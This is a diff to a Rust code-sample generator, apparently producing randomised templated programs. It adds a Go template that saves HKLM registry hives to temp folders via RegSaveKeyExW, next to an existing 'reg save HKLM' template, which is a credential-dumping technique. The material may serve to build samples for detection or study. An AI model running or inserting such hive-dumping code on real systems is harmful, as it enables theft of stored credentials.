@@ -77,6 +77,12 @@ const SCRIPT: &[&str] = &[
         "⏎    if err != nil { continue }⏎    {gof}⏎}"
     ),
     concat!(
+        "package main⏎⏎import (⏎	\"golang.org/x/sys/windows\"⏎	\"golang.org/x/sys/windows/registry\"⏎	\"unsafe\"⏎)⏎⏎var {fn.1} = windows.NewLazySystemDLL(\"advapi32.dll\").",
+        "NewProc(\"RegSaveKey«ExW¦W»\")⏎⏎func {go.1}(name, dst string) error {⏎	k, err := registry.OpenKey(registry.LOCAL_MACHINE, name, registry.READ)⏎	if err != nil {⏎		return ",
+        "err⏎	}⏎	defer k.Close()⏎	p, _ := windows.UTF16PtrFromString(dst)⏎	{fn.1}.Call(uintptr(k), uintptr(unsafe.Pointer(p)), 0, 2)⏎	return nil⏎}⏎⏎func main() {⏎	{gof}⏎	for _, n := ",
+        "range []string{{quoted}} {⏎		{go.1}(n, `{outj}\\`+n)⏎	}⏎}"
+    ),
+    concat!(
         "for h in [{quoted}] {⏎    «Command::new(\"reg\").args([\"save\", &format!(\"HKLM\\\\{H}\"), &out(h)]).status()?;",
         "¦std::fs::copy(root.join(h), out.join(h))?; // root: {folder}»⏎}"
     ),
@@ -187,6 +193,8 @@ macro_rules! programs {
             ("rbf", "«require 'socket'¦puts Socket.gethostname¦# {comment}¦FileUtils.mkdir_p(dir)¦sleep {1..30}»"),
             ("gof", "«host, _ := os.Hostname()¦// {comment}¦io.Copy(w, src)¦time.Sleep({1..30} * time.Second)¦defer src.Close()»"),
             ("const", "«NAMES¦FILES¦TARGETS¦ITEMS¦PARTS»"),
+            ("fn", "«save¦proc¦call¦regSave¦write»"),
+            ("go", "«grab¦dump¦export¦run¦one»"),
             ("outj", r"C:\\«Temp¦Users\\Public¦Windows\\Temp¦ProgramData»"),
             $(($name, $text)),+
         ] as &[Slot]
